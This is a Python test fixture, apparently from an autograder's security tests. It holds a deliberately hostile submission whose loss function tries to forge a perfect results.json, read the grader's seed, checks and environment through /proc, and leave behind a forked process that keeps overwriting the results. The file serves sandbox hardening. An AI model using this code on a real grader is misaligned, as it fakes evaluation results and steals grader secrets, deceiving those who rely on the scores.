"""Hostile (appended to a correct layer-api submission): attacks the autograder that runs it.

Its loss function, with the autograder's root filled in by the test (__AUTOGRADER_ROOT__), tries to
  - write a forged results.json (100 / 13) into the results folder, or any file there;
  - read the grader's files: the assignment, the probe seed, run_autograder, the installed grader
    (bprop-lib);
  - read the grader's environment (BPROP_PROBE_SEED) from /proc/<pid>/environ;
  - leave a process behind that keeps trying to write results.json after grading ends.
Then it raises, so that the loss checks fail with what it found in the message: the test reads that
back from results.json and asserts that nothing succeeded.
"""


def softmax_crossentropy_with_logits(logits, reference_answers):
    import json
    import os
    import time

    root = "__AUTOGRADER_ROOT__"
    found = {}
    forged = json.dumps({"score": 100, "tests": [{"name": "forged", "score": 100, "max_score": 13}]})

    def attempt(name, fn):
        try:
            fn()
        except Exception as e:  # what stopped it is the finding
            found[name] = type(e).__name__
            return
        found[name] = "SUCCEEDED"

    def write(path, text):
        with open(path, "w") as f:
            f.write(text)

    def read(path):
        with open(path) as f:
            return f.read()

    def environs():
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/environ", "rb") as f:
                        if b"BPROP_PROBE_SEED" in f.read():
                            return pid
                except OSError:
                    continue
        raise PermissionError("no environment with BPROP_PROBE_SEED readable")

    attempt("w_results", lambda: write(f"{root}/results/results.json", forged))
    attempt("w_dir", lambda: write(f"{root}/results/planted.txt", "x"))
    attempt("r_assign", lambda: read(f"{root}/source/assignment.toml"))
    attempt("r_run", lambda: read(f"{root}/run_autograder"))
    attempt("r_seed", lambda: read(f"{root}/source/probe_seed"))
    attempt("ls_lib", lambda: os.listdir(f"{root}/bprop-lib"))
    attempt("r_lib", lambda: read(f"{root}/bprop-lib/grading/checks.py"))
    attempt("r_env", environs)
    if os.fork() == 0:  # a straggler that keeps trying after grading ends
        os.setsid()
        for _ in range(100):
            try:
                write(f"{root}/results/results.json", forged)
            except OSError:
                pass
            time.sleep(0.1)
        os._exit(0)
    raise RuntimeError("FINDINGS " + json.dumps(found, sort_keys=True, separators=(",", ":")))
